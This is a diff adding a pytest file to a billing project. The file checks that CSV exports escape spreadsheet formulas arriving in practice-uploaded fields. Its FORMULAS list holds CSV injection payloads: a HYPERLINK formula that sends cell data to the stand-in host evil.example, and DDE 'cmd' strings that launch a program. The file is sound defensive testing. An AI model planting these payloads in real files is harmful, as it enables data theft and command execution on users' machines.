@@ -1,0 +1,98 @@
+"""CSV formula injection (issue 13.6, OWASP): no file the project writes hands a
+spreadsheet a formula, whichever of its cells came from a practice's upload."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, datetime
+
+import pytest
+
+from billing_core.collection.blocking import (
+    BlockChange,
+    BlockChangeKind,
+    BlockedPatient,
+    block_changes_csv,
+    blocked_patients_csv,
+)
+from billing_core.declarations.claims import Claim, LineType
+from billing_core.declarations.csv_template import template_csv
+from billing_core.declarations.insurer_claims import export_per_insurer
+from billing_core.declarations.invoicing import InsurerClaimLine
+from billing_core.shared.clock import AMSTERDAM
+from billing_core.shared.spreadsheet import csv_text
+from tests.unit.factories import BSN, make_person, make_provider
+
+AT = datetime(2026, 11, 25, 9, 0, tzinfo=AMSTERDAM)
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def cells(text: str, delimiter: str = ";") -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+def evaluated_by_a_spreadsheet(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell.lstrip("-").isdigit()
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_a_formula_is_written_as_text(formula):
+    written = cells(csv_text(["patient_ref"], [[formula]]))
+    assert written == ["patient_ref", "'" + formula]
+
+
+def test_numbers_and_ordinary_text_stay_as_they_are():
+    row = [-1508, "-1508", "-15,08", "3.5", "P-004711", "'t Hart", "", None]
+    expected = ["-1508", "-1508", "-15,08", "3.5", "P-004711", "'t Hart", "", ""]
+    assert cells(csv_text(["a"] * 8, [row]))[8:] == expected
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_the_blocked_patients_files_hand_no_formula_to_a_spreadsheet(formula):
+    # Given a patient number as a practice uploaded it
+    blocked = [BlockedPatient("tandarts-de-vries", formula, AT, ("inv-1",))]
+    changes = [BlockChange("tandarts-de-vries", formula, BlockChangeKind.BLOCKED, AT)]
+    # When the agency's and the practice's files are written
+    written = cells(blocked_patients_csv(blocked)) + cells(block_changes_csv(changes))
+    # Then the number is there, shown as text
+    assert "'" + formula in written
+    assert [cell for cell in written if evaluated_by_a_spreadsheet(cell)] == []
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_the_insurer_claims_file_hands_no_formula_to_a_spreadsheet(formula):
+    claim = Claim(
+        2,
+        "R1",
+        formula,
+        BSN,
+        date(1984, 3, 7),
+        make_person(last_name=formula),
+        None,
+        "3311",
+        formula,
+        date(2026, 11, 2),
+        None,
+        "C11",
+        formula,
+        LineType.CARE,
+        1,
+        2425,
+    )
+    files = export_per_insurer(make_provider(), [InsurerClaimLine(claim, formula)])
+    written = cells(files["3311"].decode("utf-8"))
+    assert written.count("'" + formula) == 4
+    assert [cell for cell in written if evaluated_by_a_spreadsheet(cell)] == []
+
+
+def test_the_template_is_unchanged_by_the_shared_writer():
+    text = template_csv().decode("utf-8")
+    assert text.startswith("\ufeffclaim_ref;") and "'" not in text.splitlines()[0]
